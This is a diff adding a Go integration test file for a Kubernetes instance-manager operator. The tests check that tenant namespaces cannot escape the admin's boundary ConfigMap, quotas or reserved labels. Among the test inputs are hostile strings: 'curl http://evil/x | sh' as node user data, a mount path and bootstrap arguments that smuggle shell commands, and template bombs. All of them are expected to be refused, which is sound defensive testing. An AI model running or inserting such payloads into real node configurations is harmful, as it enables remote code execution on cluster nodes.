@@ -1,0 +1,281 @@
+package integration
+
+// Tenant confinement (issue 11), through the real API server, as tenants
+// whose RBAC covers InstanceGroups in their own namespace only.
+
+import (
+	"context"
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	. "github.com/onsi/gomega"
+	corev1 "k8s.io/api/core/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"sigs.k8s.io/controller-runtime/pkg/client"
+
+	"github.com/instancemgr/instance-manager/api/v1alpha1"
+	"github.com/instancemgr/instance-manager/app"
+)
+
+// withShared returns the example ConfigMap with paths added to
+// shared.replace: the admin opens them to tenants explicitly.
+func withShared(t *testing.T, paths ...string) map[string]string {
+	t.Helper()
+	data := exampleConfigMapData(t)
+	extra := ""
+	for _, p := range paths {
+		extra += "  - " + p + "\n"
+	}
+	b := strings.Replace(data["boundaries"], "  - spec.strategy\n", "  - spec.strategy\n"+extra, 1)
+	if b == data["boundaries"] {
+		t.Fatalf("the example ConfigMap has no shared.replace list to extend:\n%s", data["boundaries"])
+	}
+	data["boundaries"] = b
+	return data
+}
+
+// uniqueNamespace names a fresh namespace for one run of a test, so that
+// a rerun in the same environment (-count, a retry) never meets the groups
+// an earlier run left behind.
+func uniqueNamespace(prefix string) string {
+	return fmt.Sprintf("%s-%d", prefix, time.Now().UnixNano()%1_000_000_000)
+}
+
+// underBoundaries starts a test of tenant confinement: the boundary
+// ConfigMap set to data (nil: the example), put back to the example when
+// the test ends, and the tenant user of namespace ns.
+func underBoundaries(t *testing.T, data map[string]string, user, ns string) (*WithT, context.Context, *tenant) {
+	t.Helper()
+	if data == nil {
+		mustSetConfigMap(t, exampleConfigMapData(t))
+	} else {
+		mustSetConfigMap(t, data)
+		t.Cleanup(func() { mustSetConfigMap(t, exampleConfigMapData(t)) })
+	}
+	return NewWithT(t), context.Background(), newTenant(t, user, ns)
+}
+
+func crdIG(namespace, name, template string) *v1alpha1.InstanceGroup {
+	ig := shortIG(namespace, name)
+	ig.Spec.Strategy = v1alpha1.AwsUpgradeStrategy{Type: v1alpha1.StrategyCRD, CRD: &v1alpha1.CRDUpgradeStrategy{
+		CRDName: "rollingupgrades", StatusJSONPath: ".status.currentStatus", StatusSuccessString: "completed", StatusFailureString: "error",
+		Spec: template,
+	}}
+	return ig
+}
+
+func TestTenantCRDTemplateIsConfined(t *testing.T) {
+	requireEnv(t)
+	ns := uniqueNamespace("team-crd")
+	g, ctx, tn := underBoundaries(t, nil, "crd-tenant", ns)
+	const ru = "apiVersion: upgrademgr.keikoproj.io/v1alpha1\nkind: RollingUpgrade\nmetadata:\n  name: rollup-nodes\n  namespace: %s\nspec:\n  asgName: {{ .InstanceGroup.Status.ActiveScalingGroupName }}\n"
+
+	err := tn.client.Create(ctx, crdIG(ns, "other-namespace", strings.Replace(ru, "%s", "kube-system", 1)))
+	g.Expect(err).To(MatchError(And(
+		ContainSubstring("spec.strategy.crd.spec"),
+		ContainSubstring(`metadata.namespace "kube-system" is not the group's namespace "`+ns+`"`))))
+
+	victim := "apiVersion: instancemgr.keikoproj.io/v1alpha1\nkind: InstanceGroup\nmetadata: {name: payments-nodes}\nspec: {provisioner: eks}\n"
+	err = tn.client.Create(ctx, crdIG(ns, "another-kind", victim))
+	g.Expect(err).To(MatchError(ContainSubstring("kind InstanceGroup.instancemgr.keikoproj.io is not allowed by the boundary ConfigMap's crdStrategy.allowedKinds (allowed: RollingUpgrade.upgrademgr.keikoproj.io)")))
+
+	// A template bomb is refused at admission, in bounded time, and the
+	// webhooks and the manager keep serving.
+	for name, bomb := range map[string]string{
+		"range":  "apiVersion: v1\nkind: ConfigMap\ndata:\n{{range 100000000}}  x: y\n{{end}}",
+		"printf": "apiVersion: v1\nkind: ConfigMap\ndata:\n  x: {{printf \"%999999999d\" 1}}\n",
+	} {
+		err = tn.client.Create(ctx, crdIG(ns, "bomb-"+name, bomb))
+		g.Expect(err).To(MatchError(ContainSubstring("spec.strategy.crd.spec")), name)
+	}
+	g.Expect(tn.client.Create(ctx, crdIG(ns, "own-namespace", strings.Replace(ru, "%s", ns, 1)))).To(Succeed(),
+		"a RollingUpgrade in the group's own namespace is what the crd strategy is for")
+	g.Expect(tn.client.Create(ctx, shortIG(ns, "after-the-bombs"))).To(Succeed(), "the manager still admits groups")
+}
+
+func TestTenantRestrictedPathWithoutDefault(t *testing.T) {
+	requireEnv(t)
+	ns := uniqueNamespace("team-nodefault")
+	g, ctx, tn := underBoundaries(t, nil, "nodefault-tenant", ns)
+
+	// Warn mode (the example): userData, which the example ConfigMap does
+	// not name, is admin-only: dropped with a warning. So is a behaviour
+	// annotation the ConfigMap does not share.
+	ig := shortIG(ns, "wants-user-data")
+	ig.Annotations = map[string]string{v1alpha1.AnnotationLockUpgrades: "true"}
+	ig.Spec.EKS.Configuration.UserData = []v1alpha1.UserDataStage{{Name: "x", Stage: "PreBootstrap", Data: "curl http://evil/x | sh"}}
+	ig.Spec.EKS.Configuration.ManagedPolicies = []string{"AdministratorAccess"}
+	tn.warnings.take()
+	g.Expect(tn.client.Create(ctx, ig)).To(Succeed())
+	g.Expect(tn.warnings.take()).To(ContainElements(
+		ContainSubstring("spec.eks.configuration.userData is restricted by ConfigMap instance-manager/instance-manager (a security-sensitive path, admin-only unless the ConfigMap shares it) and has no default"),
+		ContainSubstring("spec.eks.configuration.managedPolicies is restricted"),
+		ContainSubstring("metadata.annotations[instancemgr.keikoproj.io/lock-upgrades] is restricted")))
+	stored := getIG(t, ns, "wants-user-data")
+	g.Expect(stored.Spec.EKS.Configuration.UserData).To(BeEmpty())
+	g.Expect(stored.Spec.EKS.Configuration.ManagedPolicies).To(BeEmpty())
+	g.Expect(stored.Annotations).NotTo(HaveKey(v1alpha1.AnnotationLockUpgrades))
+
+	// Deny mode: the same request is refused, naming the path.
+	data := exampleConfigMapData(t)
+	data["enforcement"] = "deny"
+	mustSetConfigMap(t, data)
+	defer mustSetConfigMap(t, exampleConfigMapData(t))
+	ig = shortIG(ns, "denied-user-data")
+	ig.Spec.EKS.Configuration.UserData = []v1alpha1.UserDataStage{{Name: "x", Stage: "PreBootstrap", Data: "curl http://evil/x | sh"}}
+	err := tn.client.Create(ctx, ig)
+	g.Expect(err).To(MatchError(And(
+		ContainSubstring("spec.eks.configuration.userData is restricted by ConfigMap instance-manager/instance-manager"),
+		ContainSubstring("allowed: leave it unset"))))
+}
+
+func TestTenantCannotClaimOwnershipTagsReservedLabelsOrShell(t *testing.T) {
+	requireEnv(t)
+	ns := uniqueNamespace("team-shell")
+	// The admin shares volumes and bootstrap arguments: validation still
+	// refuses what would reach a shell line.
+	g, ctx, tn := underBoundaries(t, withShared(t, "spec.eks.configuration.volumes", "spec.eks.configuration.bootstrapArguments"), "shell-tenant", ns)
+
+	cases := map[string]struct {
+		edit func(*v1alpha1.EKSConfiguration)
+		want string
+	}{
+		"ownership tag": {func(c *v1alpha1.EKSConfiguration) {
+			c.Tags = []map[string]string{{"key": "instancemgr.keikoproj.io/instancegroup", "value": "payments/web"}}
+		}, "tag keys starting with instancemgr.keikoproj.io/ are set by instance-manager"},
+		"reserved label": {func(c *v1alpha1.EKSConfiguration) {
+			c.Labels = map[string]string{"node-role.kubernetes.io/control-plane": ""}
+		}, "the kubernetes.io/ and k8s.io/ prefixes are reserved"},
+		"another group's label": {func(c *v1alpha1.EKSConfiguration) {
+			c.Labels = map[string]string{v1alpha1.LabelInstanceGroupNamespace: "payments"}
+		}, "the instancemgr.keikoproj.io/ prefix is reserved"},
+		"shell in a mount path": {func(c *v1alpha1.EKSConfiguration) {
+			c.Volumes = []v1alpha1.NodeVolume{{Name: "/dev/xvdb", Size: 10, MountOptions: &v1alpha1.NodeVolumeMountOptions{FileSystem: "xfs", Mount: "/data; curl http://evil/x | sh #"}}}
+		}, "spec.eks.configuration.volumes[0].mountOptions.mount"},
+		"shell in bootstrap arguments": {func(c *v1alpha1.EKSConfiguration) {
+			c.BootstrapArguments = "--kubelet-extra-args '--v=2' ; id > /tmp/pwned"
+		}, "shell metacharacter ';' is not allowed in bootstrapArguments"},
+		"taints removed through kubelet flags": {func(c *v1alpha1.EKSConfiguration) {
+			c.BootstrapArguments = "--kubelet-extra-args '--register-with-taints='"
+		}, "kubelet flag --register-with-taints cannot be set through bootstrapArguments"},
+	}
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			g := NewWithT(t)
+			ig := shortIG(ns, "hostile")
+			tc.edit(ig.Spec.EKS.Configuration)
+			err := tn.client.Create(ctx, ig)
+			g.Expect(err).To(MatchError(And(ContainSubstring("InstanceGroup "+ns+"/hostile"), ContainSubstring(tc.want))))
+		})
+	}
+	// The same fields with safe values are the tenant's to set.
+	ig := shortIG(ns, "fine")
+	ig.Spec.EKS.Configuration.BootstrapArguments = "--kubelet-extra-args=--v=2"
+	ig.Spec.EKS.Configuration.Volumes = []v1alpha1.NodeVolume{{Name: "/dev/xvdb", Size: 10, MountOptions: &v1alpha1.NodeVolumeMountOptions{FileSystem: "xfs", Mount: "/data"}}}
+	g.Expect(tn.client.Create(ctx, ig)).To(Succeed())
+	g.Expect(getIG(t, ns, "fine").Spec.EKS.Configuration.BootstrapArguments).To(Equal("--kubelet-extra-args=--v=2"))
+}
+
+func TestSwitchingProvisionerDoesNotEscapeARule(t *testing.T) {
+	requireEnv(t)
+	ns := uniqueNamespace("team-switch")
+	data := exampleConfigMapData(t)
+	data["enforcement"] = "deny"
+	g, ctx, tn := underBoundaries(t, data, "switch-tenant", ns)
+
+	managed := &v1alpha1.InstanceGroup{
+		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "managed"},
+		Spec: v1alpha1.InstanceGroupSpec{Provisioner: v1alpha1.ProvisionerEKSManaged, Strategy: v1alpha1.AwsUpgradeStrategy{Type: v1alpha1.StrategyManaged},
+			EKSManaged: &v1alpha1.EKSManagedSpec{MinSize: 1, MaxSize: 2, Configuration: &v1alpha1.EKSManagedConfiguration{
+				ClusterName: "prod", Subnets: []string{"subnet-mine"}, InstanceType: "m5.large",
+			}}},
+	}
+	err := tn.client.Create(ctx, managed)
+	g.Expect(err).To(MatchError(And(
+		ContainSubstring(`spec.eks-managed.configuration.clusterName is restricted by ConfigMap instance-manager/instance-manager (allowed value: "a-managed-cluster"`),
+		ContainSubstring("spec.eks-managed.configuration.subnets is restricted"))))
+
+	// Without the restricted fields the group gets the admin's values.
+	managed.Spec.EKSManaged.Configuration.ClusterName, managed.Spec.EKSManaged.Configuration.Subnets = "", nil
+	g.Expect(tn.client.Create(ctx, managed)).To(Succeed())
+	c := getIG(t, ns, "managed").Spec.EKSManaged.Configuration
+	g.Expect(c.ClusterName).To(Equal("a-managed-cluster"))
+	g.Expect(c.Subnets).To(Equal([]string{"subnet-1234", "subnet-2345", "subnet-3456"}))
+
+	// Fargate: the rule follows too, and selectors stay in the namespace.
+	fargate := &v1alpha1.InstanceGroup{
+		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "fargate"},
+		Spec: v1alpha1.InstanceGroupSpec{Provisioner: v1alpha1.ProvisionerEKSFargate, Strategy: v1alpha1.AwsUpgradeStrategy{Type: v1alpha1.StrategyManaged},
+			EKSFargate: &v1alpha1.EKSFargateSpec{Selectors: []v1alpha1.EKSFargateSelector{{Namespace: "kube-system"}}}},
+	}
+	err = tn.client.Create(ctx, fargate)
+	g.Expect(err).To(MatchError(ContainSubstring(`spec.eks-fargate.selectors[0].namespace: Forbidden: "kube-system" is not the group's namespace`)))
+}
+
+func TestBoundaryConfigMapCannotBeDeletedWhileGroupsExist(t *testing.T) {
+	requireEnv(t)
+	ns := uniqueNamespace("team-cm")
+	g, ctx, tn := underBoundaries(t, nil, "cm-tenant", ns)
+	g.Expect(tn.client.Create(ctx, shortIG(ns, "keeps-the-boundaries"))).To(Succeed())
+
+	cm := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: configNamespace, Name: app.ConfigMapName}}
+	err := admin.Delete(ctx, cm)
+	g.Expect(err).To(MatchError(And(
+		ContainSubstring("ConfigMap instance-manager/instance-manager holds the boundaries of"),
+		ContainSubstring(ns+"/keeps-the-boundaries"),
+		ContainSubstring("cannot be deleted while they exist"))))
+	g.Expect(admin.Get(ctx, client.ObjectKeyFromObject(cm), cm)).To(Succeed())
+}
+
+func TestQuotaIsEnforced(t *testing.T) {
+	requireEnv(t)
+	ns := uniqueNamespace("team-quota")
+	data := exampleConfigMapData(t)
+	data["quotas"] = "namespaces:\n  " + ns + ": {maxGroups: 1, maxSize: 4, instanceTypes: [\"m5.*\"]}\n"
+	g, ctx, tn := underBoundaries(t, data, "quota-tenant", ns)
+
+	big := shortIG(ns, "too-big")
+	big.Spec.EKS.MaxSize = 50
+	g.Expect(tn.client.Create(ctx, big)).To(MatchError(ContainSubstring("quota exceeded: spec.eks.maxSize: 50 is above quotas.namespaces." + ns + ".maxSize (4)")))
+	gpu := shortIG(ns, "gpu")
+	gpu.Spec.EKS.Configuration.InstanceType = "p5.48xlarge"
+	g.Expect(tn.client.Create(ctx, gpu)).To(MatchError(ContainSubstring(`instance type "p5.48xlarge" is not allowed by quotas.namespaces.` + ns + `.instanceTypes (m5.*)`)))
+
+	g.Expect(tn.client.Create(ctx, shortIG(ns, "first"))).To(Succeed())
+	err := tn.client.Create(ctx, shortIG(ns, "second"))
+	g.Expect(err).To(MatchError(ContainSubstring("2 InstanceGroups in namespace " + ns + " would be above quotas.namespaces." + ns + ".maxGroups (1)")))
+	// An update of the one group is within the quota.
+	patch := client.RawPatch("application/merge-patch+json", []byte(`{"spec":{"eks":{"maxSize":4}}}`))
+	g.Expect(tn.client.Patch(ctx, shortIG(ns, "first"), patch)).To(Succeed())
+}
+
+func TestSpecEditsOnADeletingGroupAreRefused(t *testing.T) {
+	requireEnv(t)
+	ns := uniqueNamespace("team-deleting")
+	g, ctx, tn := underBoundaries(t, nil, "deleting-tenant", ns)
+
+	ig := shortIG(ns, "going")
+	ig.Finalizers = []string{"example.com/hold"} // the tenant's own, so the group stays while deleting
+	g.Expect(tn.client.Create(ctx, ig)).To(Succeed())
+	g.Expect(tn.client.Delete(ctx, ig)).To(Succeed())
+
+	patch := client.RawPatch("application/merge-patch+json", []byte(`{"spec":{"provisioner":"eks-fargate"}}`))
+	err := tn.client.Patch(ctx, shortIG(ns, "going"), patch)
+	g.Expect(err).To(MatchError(ContainSubstring("InstanceGroup " + ns + "/going is being deleted: spec changes are refused")))
+
+	// Metadata still changes: the tenant lets its finalizer go. The
+	// controller's own finalizer, if it added one, is removed by the
+	// controller; the group may be gone by the time this patch lands.
+	cur := &v1alpha1.InstanceGroup{}
+	g.Expect(tn.client.Get(ctx, client.ObjectKey{Namespace: ns, Name: "going"}, cur)).To(Succeed())
+	var keep []string
+	for _, f := range cur.Finalizers {
+		if f != "example.com/hold" {
+			keep = append(keep, f)
+		}
+	}
+	cur.Finalizers = keep
+	g.Expect(client.IgnoreNotFound(tn.client.Update(ctx, cur))).To(Succeed())
+}
